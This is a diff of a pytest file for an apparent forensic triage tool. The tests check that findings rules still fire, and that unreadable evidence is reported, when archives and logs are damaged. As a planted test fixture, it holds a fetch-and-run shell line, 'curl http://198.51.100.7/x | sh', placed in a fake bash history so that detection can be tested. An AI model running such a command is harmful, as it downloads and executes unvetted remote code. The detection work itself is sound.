@@ -14,7 +14,7 @@ from typing import Any
 import pytest
 
 from stopgap.orchestrator.evidence.manifest import MANIFEST
-from stopgap.orchestrator.evidence.shelf import Shelf
+from stopgap.orchestrator.evidence.reader import CollectionReader
 from stopgap.orchestrator.findings import Rule, judge, shipped_rules
 from stopgap.orchestrator.findings import apart as apart_module
 from stopgap.orchestrator.findings.apart import ReaderApart
@@ -24,7 +24,7 @@ from stopgap.orchestrator.journal import Journal
 from stopgap.orchestrator.journal.records import EvidenceKept, RunFinished, RunStarted
 
 from .bench import Bench
-from .collection import begin_custody, member_header, pax_header, shelf, tar
+from .collection import begin_custody, collected, member_header, pax_header, tar
 
 RULES = shipped_rules()
 FETCHED = "curl http://198.51.100.7/x | sh\n"
@@ -42,7 +42,7 @@ SLOW = Rule.model_validate_json(
 """Its pattern is none for RE2, and Python's `re` never ends with it on a row of x."""
 
 
-def ids(collection: Shelf, **how: Any) -> list[str]:
+def ids(collection: CollectionReader, **how: Any) -> list[str]:
     return [finding.id for finding in judge(collection, RULES, **how).findings]
 
 
@@ -53,7 +53,7 @@ def sized(size: bytes) -> bytes:
 
 @pytest.mark.parametrize("damage", [sized(b"9" * 5000), sized("²".encode()), sized(b"-1"), b"\xff" * 512])
 def test_what_is_damaged_hides_nothing_beside_it_and_is_named(tmp_path: Path, damage: bytes) -> None:
-    judged = judge(shelf(tmp_path, {"histories": damage + tar({"/root/.bash_history": FETCHED})}), RULES)
+    judged = judge(collected(tmp_path, {"histories": damage + tar({"/root/.bash_history": FETCHED})}), RULES)
     assert "history-fetched" in {finding.id for finding in judged.findings}
     assert {unread.table for unread in judged.unread} == {"histories", "history-lines"}
     assert not judged.no_discrepancy_seen
@@ -64,7 +64,7 @@ def test_what_is_damaged_hides_nothing_beside_it_and_is_named(tmp_path: Path, da
 def test_an_entry_that_says_it_is_longer_than_its_archive_leaves_no_rule_without_a_word(
     tmp_path: Path, size: bytes
 ) -> None:
-    judged = judge(shelf(tmp_path, {"histories": sized(size) + tar({"/root/.bash_history": FETCHED})}), RULES)
+    judged = judge(collected(tmp_path, {"histories": sized(size) + tar({"/root/.bash_history": FETCHED})}), RULES)
     assert not judged.no_discrepancy_seen
     assert {unread.reason for unread in judged.unread} == {"histories: an entry that reaches beyond the end"}
 
@@ -72,7 +72,7 @@ def test_an_entry_that_says_it_is_longer_than_its_archive_leaves_no_rule_without
 @pytest.mark.parametrize("packed", [gzip.compress(b"x" * 5000)[:-9], b"no gzip at all"], ids=["cut", "none"])
 def test_a_log_that_cannot_be_unpacked_is_named(tmp_path: Path, packed: bytes) -> None:
     content = {"logs": {"/var/log/auth.log.1.gz": {"hex": packed.hex()}, "/var/log/auth.log": "x\n"}}
-    unread = {each.table: each.reason for each in judge(shelf(tmp_path, content), RULES).unread}
+    unread = {each.table: each.reason for each in judge(collected(tmp_path, content), RULES).unread}
     assert "/var/log/auth.log.1.gz" in unread["auth-lines"]
     assert "log-series" not in unread
 
@@ -82,13 +82,13 @@ def test_a_log_that_was_packed_in_parts_is_read_to_its_end(tmp_path: Path) -> No
         f"Nov 23 02:14:{n:02d} web sshd[1]: Failed password for x from 198.51.100.9 port 1 ssh2\n" for n in range(9)
     )
     packed = b"".join(gzip.compress(line.encode() + b"\n") for line in lines.splitlines())
-    collection = shelf(tmp_path, {"logs": {"/var/log/auth.log.1.gz": {"hex": packed.hex()}}})
+    collection = collected(tmp_path, {"logs": {"/var/log/auth.log.1.gz": {"hex": packed.hex()}}})
     assert len(list(tables()["logins"].read(collection))) == 9
 
 
 def test_a_parser_that_yields_nothing_is_ended_in_time(tmp_path: Path) -> None:
     packed = gzip.compress(b"\n" * (32 << 20))
-    collection = shelf(tmp_path, PLANTED | {"logs": {"/var/log/auth.log.1.gz": {"hex": packed.hex()}}})
+    collection = collected(tmp_path, PLANTED | {"logs": {"/var/log/auth.log.1.gz": {"hex": packed.hex()}}})
     ticks = itertools.count()
     judged = judge(collection, RULES, budget=4000, clock=lambda: float(next(ticks)))
     assert "history-fetched" in {finding.id for finding in judged.findings}
@@ -97,11 +97,11 @@ def test_a_parser_that_yields_nothing_is_ended_in_time(tmp_path: Path) -> None:
 
 
 def test_a_table_or_a_rule_that_fails_costs_itself_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    def fails(_: Shelf) -> Any:
+    def fails(_: CollectionReader) -> Any:
         raise RecursionError("too deep\x1b")
 
     monkeypatch.setitem(tables(), "histories", replace(tables()["histories"], read=fails))
-    judged = judge(shelf(tmp_path, PLANTED), RULES)
+    judged = judge(collected(tmp_path, PLANTED), RULES)
     assert [(unread.table, unread.reason) for unread in judged.unread] == [
         ("histories", "an error of its own: RecursionError: too deep\\x1b")
     ]
@@ -113,7 +113,7 @@ def test_a_table_or_a_rule_that_fails_costs_itself_alone(tmp_path: Path, monkeyp
 def test_what_is_set_against_a_list_that_was_not_read_to_its_end_is_not_found(tmp_path: Path) -> None:
     from .test_findings import HIDDEN
 
-    collection = shelf(tmp_path, HIDDEN)
+    collection = collected(tmp_path, HIDDEN)
     assert "process-hidden-from-ps" in ids(collection)
     (
         collection.folder / next(item.file or "" for item in collection.manifest.items if item.id == "process-list")
@@ -126,7 +126,7 @@ def test_what_is_set_against_a_list_that_was_not_read_to_its_end_is_not_found(tm
 
 
 def test_a_process_apart_gives_the_same_bytes(tmp_path: Path) -> None:
-    made = [shelf(tmp_path / str(n), rule.finds[0]) for n, rule in enumerate(RULES[:8])]
+    made = [collected(tmp_path / str(n), rule.finds[0]) for n, rule in enumerate(RULES[:8])]
     with ReaderApart(RULES) as reader:
         for collection in made:
             there = judge(collection, RULES, reader=reader.of(collection))
@@ -137,7 +137,7 @@ def test_a_process_that_does_not_end_is_ended_and_another_one_goes_on(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(apart_module, "GRACE", 0.2)
-    collection = shelf(tmp_path, {"histories": {"/root/.bash_history": "x" * 200 + "\n"}})
+    collection = collected(tmp_path, {"histories": {"/root/.bash_history": "x" * 200 + "\n"}})
     with ReaderApart([SLOW]) as reader:
         assert reader.of(collection).changed([], 600) == {}
         assert "its process was ended" in reader.read("history-lines", ["slow"], 0.2).trouble
@@ -146,7 +146,7 @@ def test_a_process_that_does_not_end_is_ended_and_another_one_goes_on(
 
 def test_a_process_that_dies_costs_the_table_that_it_read(tmp_path: Path) -> None:
     with ReaderApart(RULES) as reader:
-        reader.of(shelf(tmp_path, PLANTED)).start()
+        reader.of(collected(tmp_path, PLANTED)).start()
         assert reader._process is not None
         os.kill(reader._process.pid, 9)
         assert reader.read("histories", [], 600).trouble == "the process that read it ended: signal 9"
@@ -154,7 +154,7 @@ def test_a_process_that_dies_costs_the_table_that_it_read(tmp_path: Path) -> Non
 
 
 def test_whoever_stops_it_is_heard_while_a_pattern_runs(tmp_path: Path) -> None:
-    collection = shelf(tmp_path, {"histories": {"/root/.bash_history": "x" * 200 + "\n"}})
+    collection = collected(tmp_path, {"histories": {"/root/.bash_history": "x" * 200 + "\n"}})
     asked = itertools.count()
     with ReaderApart([SLOW], stop=lambda: next(asked) > 20) as reader:
         judged = judge(collection, [SLOW], reader=reader.of(collection))
@@ -163,7 +163,7 @@ def test_whoever_stops_it_is_heard_while_a_pattern_runs(tmp_path: Path) -> None:
 
 def test_the_command_line_names_what_could_not_be_read_and_ends_with_1(bench: Bench) -> None:
     content = sized(b"9" * 5000) + tar({"/root/.bash_history": FETCHED})
-    begin_custody(shelf(bench.top / "c", {"histories": content}))
+    begin_custody(collected(bench.top / "c", {"histories": content}))
     status, out, _ = bench.stopgap("evidence", "findings", str(bench.top / "c"))
     assert (status, "history-fetched" in out) == (1, True)
     assert "could not be read: history-lines: histories: a pax header whose size is no number" in out
@@ -172,7 +172,7 @@ def test_the_command_line_names_what_could_not_be_read_and_ends_with_1(bench: Be
 
 
 def test_where_nothing_was_found_and_something_not_read_none_is_not_said(bench: Bench) -> None:
-    begin_custody(shelf(bench.top / "c", {"histories": b"\xff" * 512}))
+    begin_custody(collected(bench.top / "c", {"histories": b"\xff" * 512}))
     _, out, _ = bench.stopgap("evidence", "findings", str(bench.top / "c"))
     assert "not known: something could not be read" in out
     assert "none" not in out
@@ -186,7 +186,7 @@ def test_what_could_not_be_read_is_on_record_and_in_the_report_until_it_is(bench
     with Journal.open(bench.top / "home") as journal:
         run = journal.begin(started)
         folder = journal.run_folder(run) / "evidence/web/look"
-        begin_custody(shelf(folder, {"histories": sized(b"9" * 5000) + tar({"/root/.bash_history": FETCHED})}))
+        begin_custody(collected(folder, {"histories": sized(b"9" * 5000) + tar({"/root/.bash_history": FETCHED})}))
         kept = EvidenceKept(
             step="look", target="web", host="web", profile="triage", folder="evidence/web/look", items=1, size=1,
             manifest_sha256=hashlib.sha256((folder / MANIFEST).read_bytes()).hexdigest(),
